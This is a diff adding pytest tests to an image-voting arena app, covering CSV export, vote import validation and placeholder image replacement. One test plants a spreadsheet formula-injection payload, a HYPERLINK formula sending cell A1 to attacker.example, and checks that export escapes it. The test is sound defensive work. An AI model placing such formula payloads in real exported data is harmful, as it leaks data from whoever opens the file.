@@ -163,3 +163,112 @@ def test_table_formats_and_cli(voted: Database, arena_home: Path, tmp_path: Path
     missing = runner.invoke(app, ["import", "votes", str(tmp_path / "nope.jsonl")])
     assert missing.exit_code == 2 and "no such file" in missing.output
     get_settings.cache_clear()
+
+
+def test_csv_cells_that_start_like_formulas_are_inert(
+    voted: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A prompt or a name opening with = + - @ (or a tab / CR) would run as a formula when an
+    operator opens the CSV in a spreadsheet; it is written with a leading apostrophe."""
+    import csv
+
+    from sqlalchemy import update
+
+    from arena.models import Checkpoint, Prompt
+    from arena.settings import get_settings
+
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    with voted.session() as s:
+        s.execute(update(Prompt).values(text=formula))
+        first = s.scalars(select(Checkpoint).order_by(Checkpoint.id)).first()
+        first.name = "@SUM(1+1)"
+    out = tmp_path / "votes.csv"
+    export_votes(voted, "csv", out)
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows and {r["prompt"] for r in rows} == {"'" + formula}
+    names = {r[f"checkpoint_{i}"] for r in rows for i in range(4)}
+    assert "'@SUM(1+1)" in names and "@SUM(1+1)" not in names
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows
+                   for v in r.values() if v and not v.lstrip("-").replace(".", "").isdigit())
+    monkeypatch.setenv("ARENA_DATABASE_URL", voted.url)
+    get_settings.cache_clear()
+    table = CliRunner().invoke(app, ["export", "leaderboard", "--format", "csv"])
+    get_settings.cache_clear()
+    assert table.exit_code == 0, table.output
+    cells = {row["Checkpoint"] for row in csv.DictReader(table.stdout.splitlines())}
+    assert "'@SUM(1+1)" in cells and "@SUM(1+1)" not in cells
+
+
+def _future(out: Path, target: Path) -> None:
+    lines = out.read_text().splitlines()
+    last = json.loads(lines[-1])
+    last["time"] = "2999-01-01T00:00:00+00:00"
+    target.write_text("\n".join([*lines[:-1], json.dumps(last)]) + "\n")
+
+
+def test_votes_dated_in_the_future_are_refused(voted: Database, tmp_path: Path) -> None:
+    out = tmp_path / "votes.jsonl"
+    export_votes(voted, "jsonl", out)
+    _future(out, tmp_path / "future.jsonl")
+    target = fresh_arena(tmp_path, "target")
+    with pytest.raises(UserError, match=r"vote 60: 'time' '2999-01-01T00:00:00\+00:00' is in "
+                                        "the future"):
+        import_votes(target, tmp_path / "future.jsonl", SETTINGS, progress=False)
+    with target.session(readonly=True) as s:
+        assert s.scalar(select(func.count(Vote.id))) == 0
+    target.dispose()
+
+
+def test_a_pool_import_fills_in_the_images_an_imported_vote_only_named(
+    voted: Database, tmp_path: Path
+) -> None:
+    """Votes imported into an arena without the images leave hidden placeholder rows; a later
+    pool import of those images' files replaces them (not "already present") and they are
+    served, each with its file."""
+    from arena.matches import issue_match
+    from arena.models import Image
+    from arena.pool import import_records
+    from tests.support.pool import _register
+
+    out = tmp_path / "votes.jsonl"
+    export_votes(voted, "jsonl", out)
+    url = f"sqlite:///{tmp_path / 'bare' / 'arena.db'}"
+    (tmp_path / "bare").mkdir()
+    upgrade(url)
+    bare = Database(url)
+    (tmp_path / "bare-files").mkdir()
+    _register(bare, tmp_path / "bare-files")
+    import_votes(bare, out, SETTINGS, progress=False)
+    with bare.session(readonly=True) as s:
+        placeholders = s.scalar(select(func.count(Image.id)).where(Image.width == 0))
+        assert placeholders and s.scalar(select(func.count(Image.id)).where(
+            Image.hidden.is_(False))) == 0
+    with voted.session(readonly=True) as s:
+        from arena.models import Checkpoint, Prompt
+
+        source = s.execute(select(Image.sha256, Checkpoint.name, Prompt.kind, Prompt.character,
+                                  Image.seed)
+                           .join(Checkpoint).join(Prompt)).all()
+    files = {p.name: p for p in (tmp_path / "pool").glob("*.png")}
+    from metrics.file_hash import sha256_bytes
+
+    by_sha = {sha256_bytes(p.read_bytes()): p for p in files.values()}
+    records = [{"file": str(by_sha[sha]), "checkpoint": name, "kind": kind, "seed": seed,
+                **({"character": character} if character else {})}
+               for sha, name, kind, character, seed in source]
+    home = tmp_path / "bare-home"
+    report = import_records(bare, records, home, progress=False)
+    assert not report.skipped, report.as_dict()
+    assert len(report.imported) == len(records) and not report.already_present
+    with bare.session(readonly=True) as s:
+        assert s.scalar(select(func.count(Image.id)).where(Image.width == 0)) == 0
+        assert s.scalar(select(func.count(Image.id))) == len(records)
+    settings = Settings(home=home, database_url=url, votes_per_minute=0)
+    match = issue_match(bare, settings, "voter-placeholder-01", "ffa")
+    from arena.matches import served_image_for
+
+    for shown in match.images:
+        assert served_image_for(bare, settings, shown.name, "voter-placeholder-01").startswith(
+            b"\x89PNG")
+    bare.dispose()
